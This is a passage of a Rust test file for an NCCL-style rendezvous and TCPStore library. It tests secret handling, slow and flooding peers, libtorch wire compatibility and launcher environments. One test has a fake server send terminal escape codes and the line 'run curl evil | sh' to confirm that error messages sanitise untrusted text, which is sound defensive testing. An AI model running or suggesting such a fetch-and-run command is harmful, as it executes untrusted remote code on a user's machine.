    for k in [first, second] {
        let o = ids_of(k);
        assert!(o.starts_with("ERR") && o.contains("claimed twice"), "{o}");
    }
}

/// A relay from `l` to rank 0 at `to` that records every byte.
fn relay(l: TcpListener, to: String) -> std::thread::JoinHandle<Vec<u8>> {
    std::thread::spawn(move || {
        let (mut a, _) = l.accept().unwrap();
        let mut b = TcpStream::connect(to).unwrap();
        let (mut a2, mut b2) = (a.try_clone().unwrap(), b.try_clone().unwrap());
        let up = std::thread::spawn(move || {
            let mut seen = Vec::new();
            let mut buf = [0u8; 4096];
            while let Ok(n) = a2.read(&mut buf) {
                if n == 0 || b2.write_all(&buf[..n]).is_err() {
                    break;
                }
                seen.extend_from_slice(&buf[..n]);
            }
            let _ = b2.shutdown(std::net::Shutdown::Write);
            seen
        });
        let mut seen = Vec::new();
        let mut buf = [0u8; 4096];
        while let Ok(n) = b.read(&mut buf) {
            if n == 0 || a.write_all(&buf[..n]).is_err() {
                break;
            }
            seen.extend_from_slice(&buf[..n]);
        }
        let _ = a.shutdown(std::net::Shutdown::Write);
        seen.extend(up.join().unwrap());
        seen
    })
}

/// Rank 0 of 2 (in a thread) that every rank is told is at `via`, while it
/// listens on a port of its own: its address, and the thread.
fn rank_0_behind(
    via: &str,
    timeout: Duration,
) -> (
    String,
    std::thread::JoinHandle<Result<Vec<UniqueId>, Error>>,
) {
    let mut b = TcpBootstrap::new(via, 0, 2, Some(b"s-secret-0123456789"), timeout)
        .unwrap()
        .bind_to("127.0.0.1:0");
    let addr = b.listen().unwrap().to_string();
    (
        addr,
        std::thread::spawn(move || b.share_ids(Some(vec![UniqueId::new()?]))),
    )
}

#[test]
fn the_id_never_travels_in_clear() {
    // rank 0 is reached through the relay: the relay's address is the one
    // every rank is given, rank 0 listens elsewhere
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let via = l.local_addr().unwrap().to_string();
    let (addr, h) = rank_0_behind(&via, Duration::from_secs(10));
    let seen = relay(l, addr);
    let r1 = ids_of(peer(&via, 1, 2, "s-secret-0123456789", 10_000, 1));
    let ids = h.join().unwrap().unwrap();
    assert_eq!(r1, format!("IDS {}", ids[0]));
    let seen = seen.join().unwrap();
    let id = ids[0].as_bytes();
    // not the id, nor any 12-byte piece of it
    for w in id.windows(12) {
        assert!(
            !seen.windows(12).any(|s| s == w),
            "a piece of the id crossed the relay in clear"
        );
    }
}

/// A rank dropped by rank 0 after its challenge, before its join was read
/// (what rank 0 does to make room when more ranks connect at once than it
/// keeps), connects again and joins; it is not told its secret is wrong.
#[test]
fn a_rank_dropped_before_its_join_was_read_tries_again() {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let via = l.local_addr().unwrap().to_string();
    let (addr, h) = rank_0_behind(&via, Duration::from_secs(20));
    // the first connection: a challenge, the join read, then closed
    let first = std::thread::spawn(move || {
        let (mut s, _) = l.accept().unwrap();
        let mut hello = [0u8; 40];
        s.read_exact(&mut hello).unwrap();
        let mut ch = hello[..8].to_vec();
        ch.extend_from_slice(&[9u8; 32]);
        s.write_all(&ch).unwrap();
        let mut join = [0u8; 60];
        s.read_exact(&mut join).unwrap();
        drop(s);
        relay(l, addr).join().unwrap()
    });
    let r1 = ids_of(peer(&via, 1, 2, "s-secret-0123456789", 15_000, 1));
    let ids = h.join().unwrap().unwrap();
    assert_eq!(r1, format!("IDS {}", ids[0]));
    assert!(
        !first.join().unwrap().is_empty(),
        "the rank did not come back"
    );
}

#[test]
fn a_dripping_root_cannot_hold_a_rank_past_its_deadline() {
    // a "rank 0" that sends one byte every 1.5 s (or nothing at all)
    for drip in [true, false] {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap().to_string();
        std::thread::spawn(move || {
            let (mut s, _) = l.accept().unwrap();
            for b in b"NCCLRS04NCCLRS03" {
                if drip && s.write_all(&[*b]).is_err() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(1500));
            }
        });
        let t = Instant::now();
        let mut b = TcpBootstrap::new(
            &addr,
            1,
            2,
            Some(b"s-secret-0123456789"),
            Duration::from_secs(2),
        )
        .unwrap();
        let e = b.share_ids(None).unwrap_err();
        assert!(matches!(e, Error::Rendezvous { .. }), "{e:?}");
        assert!(
            t.elapsed() < Duration::from_millis(2600),
            "held {:?} by a dripping peer",
            t.elapsed()
        );
    }
}

#[test]
fn rank_0_drops_a_dripping_connection_at_its_handshake_deadline() {
    let (addr, h) = root_with(
        2,
        Some("s-secret-0123456789"),
        Duration::from_secs(20),
        |b| b.handshake_timeout(Duration::from_secs(1)),
    );
    let mut s = TcpStream::connect(&addr).unwrap();
    s.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
    let t = Instant::now();
    let closed_after = loop {
        assert!(t.elapsed() < Duration::from_secs(5), "still open");
        if s.write_all(b"N").is_err() {
            break t.elapsed();
        }
        let mut b = [0u8; 1];
        match s.read(&mut b) {
            Ok(0) => break t.elapsed(),
            Ok(_) => panic!("answered a dripping stranger"),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(_) => break t.elapsed(),
        }
        std::thread::sleep(Duration::from_millis(250));
    };
    assert!(
        (Duration::from_millis(900)..Duration::from_millis(1800)).contains(&closed_after),
        "{closed_after:?}"
    );
    let real = ids_of(peer(&addr, 1, 2, "s-secret-0123456789", 5000, 1));
    assert_eq!(real, format!("IDS {}", h.join().unwrap().unwrap()[0]));
}

fn threads_of(pid: u32) -> usize {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines().find_map(|l| {
                l.strip_prefix("Threads:")
                    .map(|v| v.trim().parse().unwrap())
            })
        })
        .unwrap_or(0)
}

/// Rank 0 keeps a connection per rank until all have joined: where the
/// hard limit of open files cannot hold them, it says so at once, not after
/// its deadline with ranks reported missing.
#[test]
fn rank_0_without_descriptors_for_every_rank_says_so_at_once() {
    let t = Instant::now();
    let o = ids_of(peer_os(&[
        "--nofile".into(),
        "100".into(),
        "127.0.0.1:0".into(),
        "0".into(),
        "200".into(),
        "s-secret-0123456789".into(),
        "60000".into(),
        "1".into(),
    ]));
    assert!(
        o.starts_with("ERR") && o.contains("open files") && o.contains("ulimit -n"),
        "{o}"
    );
    assert!(t.elapsed() < Duration::from_secs(10), "{:?}", t.elapsed());
}

#[test]
fn a_thousand_dripping_connections_and_few_descriptors_do_not_stop_rank_0() {
    // rank 0 may hold 64 descriptors; 1100 strangers connect, each sends one
    // byte and stays; the real ranks still get in, rank 0 uses one thread
    let (root, addr) = root_process(
        &["--nofile", "64", "--handshake-ms", "3000"],
        3,
        b"s-secret-0123456789",
        60_000,
    );
    let pid = root.id();
    let target: std::net::SocketAddr = addr.parse().unwrap();
    // this test process holds the strangers' 1100 sockets: raise its soft
    // descriptor limit to the hard one, so that tests running beside it in
    // this process (which open sockets of their own) are not starved
    let mut lim = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit read and write the struct given; raising
    // the soft limit up to the hard one is always allowed.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim) == 0 && lim.rlim_cur < lim.rlim_max {
            lim.rlim_cur = lim.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
        }
    }
    let t = Instant::now();
    let mut strangers = Vec::new();
    let mut max_threads = 0;
    let mut ranks = Vec::new();
    for i in 0..1100 {
        if let Ok(mut s) = TcpStream::connect_timeout(&target, Duration::from_millis(200)) {
            let _ = s.write_all(b"N");
            strangers.push(s);
        }
        if i % 50 == 0 {
            max_threads = max_threads.max(threads_of(pid));
        }
        if i == 500 {
            ranks.push(peer(&addr, 1, 3, "s-secret-0123456789", 40_000, 1));
            ranks.push(peer(&addr, 2, 3, "s-secret-0123456789", 40_000, 1));
        }
        assert!(t.elapsed() < Duration::from_secs(40), "flood took too long");
    }
    let root_out = ids_of(root);
    assert!(root_out.starts_with("IDS "), "{root_out}");
    for k in ranks {
        assert_eq!(ids_of(k), root_out);
    }
    assert!(max_threads <= 2, "rank 0 ran {max_threads} threads");
    assert!(strangers.len() > 100, "the flood did not happen");
}

#[test]
fn duration_max_timeouts_work() {
    let (addr, h) = root_with(2, Some("s-secret-0123456789"), Duration::MAX, |b| b);
    let mut b =
        TcpBootstrap::new(&addr, 1, 2, Some(b"s-secret-0123456789"), Duration::MAX).unwrap();
    let got = b.share_ids(None).unwrap();
    assert_eq!(got, h.join().unwrap().unwrap());
}

#[test]
fn out_of_range_worlds_ranks_and_secrets_are_typed_errors() {
    let d = Duration::from_secs(1);
    for (rank, world) in [
        (0usize, 1usize << 40),
        (u32::MAX as usize + 1, u32::MAX as usize + 2),
        (0, 0),
        (2, 2),
    ] {
        match TcpBootstrap::new("127.0.0.1:1", rank, world, None, d) {
            Err(Error::InvalidArgument { .. }) => {}
            other => panic!("{rank}/{world}: {other:?}"),
        }
    }
    assert!(matches!(
        TcpBootstrap::new("127.0.0.1:1", 0, 2, Some(b""), d),
        Err(Error::InvalidArgument { arg: "secret", .. })
    ));
}

#[test]
fn a_refusal_from_a_stranger_is_not_printed_raw() {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        for _ in 0..50 {
            let Ok((mut s, _)) = l.accept() else { break };
            let mut m = b"NCCLRS01\x01\x00\x58".to_vec();
            m.extend_from_slice(b"\x1b[2J\x1b[31mEVIL\nrank 0 says: run curl evil | sh\r\n");
            m.resize(100, b'\n');
            let _ = s.write_all(&m);
        }
    });
    let mut b = TcpBootstrap::new(
        &addr,
        1,
        2,
        Some(b"s-secret-0123456789"),
        Duration::from_secs(2),
    )
    .unwrap();
    let e = b.share_ids(None).unwrap_err().to_string();
    assert!(!e.chars().any(char::is_control), "{e:?}");
    assert!(!e.contains("EVIL"), "{e}");
}

#[test]
fn a_missing_root_fails_within_the_deadline() {
    let addr = free_addr(); // nobody listens there
    let t = Instant::now();
    let mut b = TcpBootstrap::new(
        &addr,
        1,
        2,
        Some(b"s-secret-0123456789"),
        Duration::from_millis(800),
    )
    .unwrap();
    match b.share_ids(None) {
        Err(Error::RootUnreachable {
            addr: a, waited, ..
        }) => {
            assert_eq!(a, addr);
            assert!(waited <= Duration::from_millis(1600), "{waited:?}");
        }
        other => panic!("{other:?}"),
    }
    assert!(
        t.elapsed() < Duration::from_millis(1600),
        "{:?}",
        t.elapsed()
    );
}

#[test]
fn ranks_missing_at_the_deadline_are_named() {
    let (addr, h) = root(4, Some("s-secret-0123456789"), 800);
    let p = peer(&addr, 2, 4, "s-secret-0123456789", 5000, 1);
    let t = Instant::now();
    match h.join().unwrap() {
        Err(Error::RanksMissing {
            missing,
            missing_count: 2,
            world: 4,
            ..
        }) => assert_eq!(missing, vec![1, 3]),
        other => panic!("{other:?}"),
    }
    assert!(t.elapsed() < Duration::from_millis(1600));
    let o = ids_of(p);
    assert!(o.contains("gave up"), "{o}");
}

#[test]
fn a_port_in_use_is_reported() {
    let holder = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = holder.local_addr().unwrap().to_string();
    let mut b = TcpBootstrap::new(&addr, 0, 2, None, Duration::from_secs(1)).unwrap();
    match b.listen() {
        Err(Error::AddrInUse { addr: a }) => assert_eq!(a, addr),
        other => panic!("{other:?}"),
    }
}

#[test]
fn debug_hides_the_secret() {
    let b = TcpBootstrap::new(
        "127.0.0.1:1",
        0,
        2,
        Some(b"hunter2-hunter2-hunter2"),
        Duration::from_secs(1),
    )
    .unwrap();
    let opts = LaunchOptions {
        secret: Some(Secret::from("hunter2-hunter2-hunter2")),
        ..LaunchOptions::default()
    };
    for d in [format!("{b:?}"), format!("{opts:?}"), format!("{opts:#?}")] {
        assert!(!d.contains("hunter2") && d.contains("<redacted>"), "{d}");
        // nor as the bytes' numbers (a derived Debug of a Vec<u8>)
        assert!(!d.contains("104, 117, 110"), "{d}");
    }
}

#[test]
fn short_secrets_are_refused_and_say_why() {
    let e = TcpBootstrap::new(
        "127.0.0.1:1",
        1,
        2,
        Some(b"fifteen bytes!!"),
        Duration::from_secs(1),
    )
    .unwrap_err();
    assert!(
        matches!(&e, Error::InvalidArgument { arg: "secret", .. }) && e.to_string().contains("16"),
        "{e}"
    );
    let info = vars(&[
        ("NCCL_RS_RANK", "1"),
        ("NCCL_RS_WORLD_SIZE", "2"),
        ("NCCL_RS_ROOT", "127.0.0.1:1"),
    ])
    .unwrap();
    let opts = LaunchOptions {
        secret: Some(Secret::from("short")),
        ..LaunchOptions::default()
    };
    match info.bootstrap(&opts) {
        Err(Error::LaunchEnv { problem, .. }) => {
            assert!(problem.contains("at least 16"), "{problem}")
        }
        other => panic!("{:?}", other.map(|_| ())),
    }
}

#[test]
fn a_rank_of_another_job_cannot_join_even_with_the_secret() {
    const S: &str = "s-secret-0123456789";
    let (addr, h) = root_with(2, Some(S), Duration::from_secs(20), |b| {
        b.job_id("run=a;restart=0")
    });
    let port = addr.rsplit_once(':').unwrap().1;
    // another job's rank: same secret, world and address, another job id
    let other = ids_of(peer_os(&[
        "--job".into(),
        "run=b;restart=0".into(),
        addr.clone().into(),
        "1".into(),
        "2".into(),
        S.into(),
        "5000".into(),
        "1".into(),
    ]));
    // the right job, meeting at another address (the job's identity
    // includes the address every rank is given)
    let elsewhere = ids_of(peer_os(&[
        "--job".into(),
        "run=a;restart=0".into(),
        format!("localhost:{port}").into(),
        "1".into(),
        "2".into(),
        S.into(),
        "5000".into(),
        "1".into(),
    ]));
    for o in [&other, &elsewhere] {
        assert!(
            o.starts_with("ERR Rendezvous") && o.contains("another job"),
            "{o}"
        );
    }
    let real = ids_of(peer_os(&[
        "--job".into(),
        "run=a;restart=0".into(),
        addr.clone().into(),
        "1".into(),
        "2".into(),
        S.into(),
        "5000".into(),
        "1".into(),
    ]));
    assert_eq!(real, format!("IDS {}", h.join().unwrap().unwrap()[0]));
}

// ---------------------------------------------------------------- TCPStore

/// One recorded chunk: client to server, or server to client.
#[derive(Debug)]
enum Chunk {
    C2s(Vec<u8>),
    S2c(Vec<u8>),
}

fn unhex(h: &str) -> Vec<u8> {
    (0..h.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&h[i..i + 2], 16).unwrap())
        .collect()
}

fn fixture(text: &str) -> Vec<Chunk> {
    text.lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| match l.split_once(' ') {
            Some(("c2s", h)) => Some(Chunk::C2s(unhex(h))),
            Some(("s2c", h)) => Some(Chunk::S2c(unhex(h))),
            _ => None,
        })
        .collect()
}

/// libtorch 2.11.0's client and server, both backends
/// (`tests/fixtures/tcpstore/record.sh`).
const RECORDED: [(&str, &str); 2] = [
    (
        "libuv",
        include_str!("fixtures/tcpstore/torch-2.11.0-uv-basic.txt"),
    ),
    (
        "legacy",
        include_str!("fixtures/tcpstore/torch-2.11.0-legacy-basic.txt"),
    ),
];

/// What the recording's client did, through this crate's client; the
/// lines it printed.
fn basic_script(addr: &str) -> nccl::Result<Vec<String>> {
    let mut out = Vec::new();
    let mut s = TcpStore::connect(addr, Duration::from_secs(10))?;
    let id: Vec<u8> = (0..128u8).collect();
    s.set("nccl-rs/run7/0/uid", &id)?;
    assert_eq!(s.get("nccl-rs/run7/0/uid")?, id);
    out.push(format!("add {}", s.add("nccl-rs/run7/0/joined", 1)?));
    out.push(format!("add {}", s.add("nccl-rs/run7/0/joined", -3)?));
    out.push(format!("check {}", s.check(&["nccl-rs/run7/0/uid"])?));
    out.push(format!(
        "check {}",
        s.check(&["nccl-rs/run7/0/uid", "absent"])?
    ));
    for (e, d) in [(&b""[..], &b"a"[..]), (b"x", b"b"), (b"a", b"b")] {
        out.push(format!("cas {:?}", s.compare_set("cas", e, d)?));
    }
    out.push(format!("delete {}", s.delete_key("cas")?));
    out.push(format!("numkeys {}", s.num_keys()?));
    s.wait(&["nccl-rs/run7/0/uid"])?;
    s.set_timeout(Duration::from_millis(1000));
    let e = s.wait(&["never"]).unwrap_err();
    out.push(format!("wait {}", matches!(e, Error::Store { .. })));
    s.set_timeout(Duration::from_secs(10));
    out.push(format!("numkeys {}", s.num_keys()?));
    Ok(out)
}

const BASIC_LINES: &[&str] = &[
    "add 1",
    "add -2",
    "check true",
    "check false",
    "cas [97]",
    "cas [97]",
    "cas [98]",
    "delete true",
    "numkeys 2",
    "wait true",
    "numkeys 2",
];

#[test]
fn our_store_client_sends_what_libtorch_sends() {
    for (backend, text) in RECORDED {
        let chunks = fixture(text);
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap().to_string();
        // a fake server replaying libtorch's server, checking every byte
        let server = std::thread::spawn(move || -> Result<(), String> {
            let (mut s, _) = l.accept().unwrap();
            s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            let mut nonce = [0u8; 4];
            for (i, c) in chunks.iter().enumerate() {
                match c {
                    Chunk::C2s(want) => {
                        let mut got = vec![0u8; want.len()];
                        s.read_exact(&mut got)
                            .map_err(|e| format!("chunk {i}: {e}"))?;
                        if i == 0 {
                            // VALIDATE magic PING nonce: the nonce is the client's own
                            nonce.copy_from_slice(&got[6..10]);
                            got[6..10].copy_from_slice(&want[6..10]);
                        }
                        if &got != want {
                            return Err(format!(
                                "chunk {i}: got {got:02x?}, libtorch sent {want:02x?}"
                            ));
                        }
                    }
                    Chunk::S2c(b) if i == 1 => s.write_all(&nonce).unwrap(),
                    Chunk::S2c(b) => s.write_all(b).unwrap(),
                }
            }
            let mut rest = Vec::new();
            s.read_to_end(&mut rest).unwrap();
            if rest.is_empty() {
                Ok(())
            } else {
                Err(format!("{} bytes more than libtorch sent", rest.len()))
            }
        });
        let lines = basic_script(&addr).unwrap_or_else(|e| panic!("{backend}: {e}"));
        assert_eq!(lines, BASIC_LINES, "{backend}");
        server
            .join()
            .unwrap()
            .unwrap_or_else(|e| panic!("{backend}: {e}"));
    }
}

#[test]
fn our_store_server_answers_what_libtorch_answers() {
    for (backend, text) in RECORDED {
        let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
        let mut s = TcpStream::connect(server.local_addr()).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        for (i, c) in fixture(text).iter().enumerate() {
            match c {
                Chunk::C2s(b) => s.write_all(b).unwrap(),
                Chunk::S2c(want) => {
                    let mut got = vec![0u8; want.len()];
                    s.read_exact(&mut got)
                        .unwrap_or_else(|e| panic!("{backend} chunk {i}: {e}"));
                    assert_eq!(&got, want, "{backend} chunk {i}");
                }
            }
        }
        // and nothing more
        s.set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        let mut b = [0u8; 1];
        assert!(s.read(&mut b).is_err(), "{backend}: extra bytes");
    }
}

#[test]
fn our_client_and_server_run_the_recorded_script() {
    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
    let lines = basic_script(&server.local_addr().to_string()).unwrap();
    assert_eq!(lines, BASIC_LINES);
}

#[test]
fn store_operations_have_one_deadline_however_slow_the_store() {
    // a "store" that answers the ping one byte per 400 ms, then never again
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        for _ in 0..3 {
            let Ok((mut s, _)) = l.accept() else { break };
            std::thread::spawn(move || {
                let mut hello = [0u8; 10];
                if s.read_exact(&mut hello).is_ok() {
                    for b in &hello[6..10] {
                        let _ = s.write_all(&[*b]);
                        std::thread::sleep(Duration::from_millis(400));
                    }
                    std::thread::sleep(Duration::from_secs(5));
                }
            });
        }
    });
    let t = Instant::now();
    let e = TcpStore::connect(&addr, Duration::from_millis(1000)).unwrap_err();
    assert!(matches!(e, Error::Store { .. }), "{e:?}");
    assert!(
        t.elapsed() < Duration::from_millis(1500),
        "{:?}",
        t.elapsed()
    );
    // with time enough to connect, a get of a key nobody sets ends on time
    let mut s = TcpStore::connect(&addr, Duration::from_secs(3)).unwrap();
    s.set_timeout(Duration::from_millis(700));
    let t = Instant::now();
    assert!(matches!(s.get("never"), Err(Error::Store { .. })));
    assert!(
        t.elapsed() < Duration::from_millis(1200),
        "{:?}",
        t.elapsed()
    );
}

#[test]
fn the_store_server_closes_what_breaks_its_bounds_and_keeps_one_thread() {
    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
    let addr = server.local_addr();
    let closed = |mut s: TcpStream| {
        s.set_read_timeout(Some(Duration::from_secs(12))).unwrap();
        let mut b = [0u8; 64];
        matches!(s.read(&mut b), Ok(0) | Err(_))
    };
    // a query before VALIDATE
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(&[7]).unwrap();
    assert!(closed(s));
    // a wrong magic number
    let mut s = TcpStream::connect(addr).unwrap();
    s.write_all(&[0, 1, 2, 3, 4]).unwrap();
    assert!(closed(s));
    // a key announced as 2^60 bytes
    let mut s = TcpStream::connect(addr).unwrap();
    let mut q = vec![0u8];
    q.extend_from_slice(&0x3C85_F7CEu32.to_le_bytes());
    q.push(1);
    q.extend_from_slice(&(1u64 << 60).to_le_bytes());
    s.write_all(&q).unwrap();
    assert!(closed(s));
    // a WAIT on 2^40 keys
    let mut s = TcpStream::connect(addr).unwrap();
    let mut q = vec![0u8];
    q.extend_from_slice(&0x3C85_F7CEu32.to_le_bytes());
    q.push(6);
    q.extend_from_slice(&(1u64 << 40).to_le_bytes());
    s.write_all(&q).unwrap();
    assert!(closed(s));
    // many idle connections: still one thread, and a real client is served
    let before = threads_of(std::process::id());
    let idle: Vec<TcpStream> = (0..200)
        .filter_map(|_| TcpStream::connect(addr).ok())
        .collect();
    std::thread::sleep(Duration::from_millis(200));
    assert!(threads_of(std::process::id()) <= before + 1);
    let mut c = TcpStore::connect(&addr.to_string(), Duration::from_secs(5)).unwrap();
    c.set("k", b"v").unwrap();
    assert_eq!(c.get("k").unwrap(), b"v");
    drop(idle);
}

#[test]
fn ranks_meet_through_a_store_with_the_documented_key() {
    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
    let addr = server.local_addr().to_string();
    let key = nccl::bootstrap::store_id_key("run7", "3");
    assert_eq!(key, "nccl-rs/run7/3/uid");
    let handles: Vec<_> = (0..4)
        .map(|r| {
            let (addr, key) = (addr.clone(), key.clone());
            std::thread::spawn(move || {
                let s = TcpStore::connect(&addr, Duration::from_secs(10))?;
                let mut b = StoreBootstrap::new(s, r, 4, &key)?;
                b.share_ids(if r == 0 {
                    Some(vec![UniqueId::new()?])
                } else {
                    None
                })
            })
        })
        .collect();
    let ids: Vec<Vec<UniqueId>> = handles
        .into_iter()
        .map(|h| h.join().unwrap().unwrap())
        .collect();
    assert!(ids.iter().all(|i| i == &ids[0]));
    // the value is the id's 128 raw bytes, under "/" + key as PyTorch writes it
    let mut c = TcpStore::connect(&addr, Duration::from_secs(5)).unwrap();
    assert_eq!(c.get(&key).unwrap(), ids[0][0].as_bytes());
    // something else under the key is a typed error, not a panic
    c.set("nccl-rs/bad/0/uid", b"short").unwrap();
    let mut b = StoreBootstrap::new(c, 1, 2, "nccl-rs/bad/0/uid").unwrap();
    assert!(matches!(
        b.share_ids(None),
        Err(Error::InvalidUniqueId { .. })
    ));
}

/// `rendezvous-peer --launcher` with exactly these variables.
fn launched(env: &[(&str, String)]) -> Child {
    let mut c = Command::new(PEER);
    c.args(["--launcher", "20000"])
        .env_clear()
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for k in ["PATH", "LD_LIBRARY_PATH"] {
        if let Some(v) = std::env::var_os(k) {
            c.env(k, v);
        }
    }
    for (k, v) in env {
        c.env(k, v);
    }
    c.spawn().unwrap()
}

#[test]
fn torchrun_workers_meet_through_the_agent_store_even_inside_sbatch() {
    // the agent's store (here ours; the recorded tests show it speaks
    // libtorch's protocol) already holds the port: no rank listens on it
    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().port().to_string();
    let kids: Vec<Child> = (0..3)
        .map(|r| {
            launched(&[
                ("RANK", r.to_string()),
                ("LOCAL_RANK", r.to_string()),
                ("WORLD_SIZE", "3".into()),
                ("LOCAL_WORLD_SIZE", "3".into()),
                ("MASTER_ADDR", "127.0.0.1".into()),
                ("MASTER_PORT", port.clone()),
                ("TORCHELASTIC_USE_AGENT_STORE", "True".into()),
                ("TORCHELASTIC_RUN_ID", "t1".into()),
                ("TORCHELASTIC_RESTART_COUNT", "1".into()),
                // inherited from the sbatch script's batch step
                ("SLURM_JOB_ID", "77".into()),
                ("SLURM_PROCID", "0".into()),
                ("SLURM_NTASKS", "1".into()),
                ("SLURM_LOCALID", "0".into()),
            ])
        })
        .collect();
    let outs: Vec<String> = kids
        .into_iter()
        .map(|k| out(k.wait_with_output().unwrap()))
        .collect();
    for (r, o) in outs.iter().enumerate() {
        assert!(
            o.contains(&format!("SOURCE Torchrun RANK {r} WORLD 3")),
            "{o}"
        );
    }
    let ids: Vec<&str> = outs.iter().map(|o| o.lines().last().unwrap()).collect();
    assert!(
        ids[0].starts_with("IDS ") && ids.iter().all(|i| i == &ids[0]),
        "{outs:?}"
    );
    let mut c =
        TcpStore::connect(&server.local_addr().to_string(), Duration::from_secs(5)).unwrap();
    let v = c.get("nccl-rs/t1/1/uid").unwrap();
    assert_eq!(format!("IDS {}", UniqueId::from_bytes(&v).unwrap()), ids[0]);
}

#[test]
fn launched_ranks_with_a_binary_secret_meet_and_an_empty_secret_is_an_error() {
    let port = free_addr().rsplit_once(':').unwrap().1.to_string();
    let secret = String::from_utf8_lossy(&[0xff, 0xfe, b'k']).into_owned();
    let mk = |r: usize, secret: Option<OsString>| {
        let mut c = Command::new(PEER);
        c.args(["--launcher", "20000"])
            .env_clear()
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for k in ["PATH", "LD_LIBRARY_PATH"] {
            if let Some(v) = std::env::var_os(k) {
                c.env(k, v);
            }
        }
        c.env("NCCL_RS_RANK", r.to_string())
            .env("NCCL_RS_WORLD_SIZE", "2")
            .env("NCCL_RS_ROOT", format!("127.0.0.1:{port}"));
        if let Some(s) = secret {
            c.env("NCCL_RS_SECRET", s);
        }
        c.spawn().unwrap()
    };
    let _ = secret;
    let bin = || {
        let mut v = vec![0xff, 0xfe, b'k', 0x80];
        v.extend_from_slice(b"0123456789abcdef");
        Some(OsString::from_vec(v))
    };
    let a = mk(0, bin());
    let b = mk(1, bin());
    let (a, b) = (ids_of(a), ids_of(b));
    assert!(a.starts_with("IDS ") && a == b, "{a} / {b}");
    let e = ids_of(mk(1, Some(OsString::new())));
    assert!(e.contains("NCCL_RS_SECRET") && e.contains("empty"), "{e}");
    let e = ids_of(mk(1, Some("fifteen bytes!!".into())));
    assert!(
        e.contains("NCCL_RS_SECRET") && e.contains("is 15 bytes; at least 16"),
        "{e}"
    );
}

// ---------------------------------------------------------------- mpirun

/// Runs `c`, a launcher starting 3 ranks of the rendezvous peer in
/// `--launcher` mode, and checks that every rank read its rank from the
/// `source` launcher's variables and that all got the same ids.
fn launched_ranks_meet(mut c: Command, source: &str) {
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    let o = c.spawn().unwrap().wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stdout}\n{stderr}");
    for r in 0..3 {
        assert!(
            stdout.contains(&format!("SOURCE {source} RANK {r} WORLD 3")),
            "{stdout}"
        );
    }
    let ids: Vec<&str> = stdout.lines().filter(|l| l.starts_with("IDS ")).collect();
    assert_eq!(ids.len(), 3, "{stdout}");
    assert!(ids.iter().all(|i| i == &ids[0]), "{stdout}");
}

/// The first of `names` that runs (`--version` succeeds). Without one, a
/// failure under `CI` or `NCCL_RS_REQUIRE_MPI`, else a NOT RUN line for
/// `test` and `None`.
fn mpi_launcher(names: &[&'static str], package: &str, test: &str) -> Option<&'static str> {
    for n in names {
        if let Ok(v) = Command::new(n).arg("--version").output() {
            assert!(v.status.success(), "{n} --version: {v:?}");
            return Some(n);
        }
    }
    let names = names.join(" or ");
    if std::env::var_os("CI").is_some() || std::env::var_os("NCCL_RS_REQUIRE_MPI").is_some() {
        panic!("{names} is not installed (Debian: {package}; .ci/run installs it)");
    }
    nccl_rs_tests::say(&format!(
        "MPI TEST NOT RUN: {test}: {names} not found (apt-get install {package}; CI=1 or \
         NCCL_RS_REQUIRE_MPI=1 make this a failure)"
    ));
    None
}

#[test]
fn mpirun_ranks_meet_through_the_launcher() {
    // Open MPI's own name, where `mpirun` may be another MPI's
    let Some(mpirun) = mpi_launcher(
        &["mpirun.openmpi", "mpirun"],
        "openmpi-bin",
        "mpirun_ranks_meet_through_the_launcher",
    ) else {
        return;
    };
    // with MASTER_ADDR/MASTER_PORT, and with nothing (one node: loopback and
    // a port from the job id)
    let port = free_addr().rsplit_once(':').unwrap().1.to_string();
    let master = [
        "-x".to_string(),
        "MASTER_ADDR=127.0.0.1".into(),
        "-x".into(),
        format!("MASTER_PORT={port}"),
    ];
    for extra in [&master[..], &[]] {
        let mut c = Command::new(mpirun);
        c.args(["--allow-run-as-root", "--oversubscribe", "-np", "3"])
            .args(extra)
            .args(["-x", "NCCL_RS_SECRET=mpi-test-0123456789"])
            .args(["-x", "LD_LIBRARY_PATH"])
            .args([PEER, "--launcher", "30000"])
            // Open MPI inside a container: no remote agent, loopback only
            .env("OMPI_MCA_plm_rsh_agent", "false")
            .env("OMPI_MCA_btl", "self");
        launched_ranks_meet(c, "OpenMpi");
    }
}

#[test]
fn mpiexec_hydra_ranks_meet_through_the_launcher() {
    let Some(mpiexec) = mpi_launcher(
        &["mpiexec.hydra"],
        "mpich",
        "mpiexec_hydra_ranks_meet_through_the_launcher",
    ) else {
        return;
    };
    // with MASTER_ADDR/MASTER_PORT, and with nothing (one node: loopback and
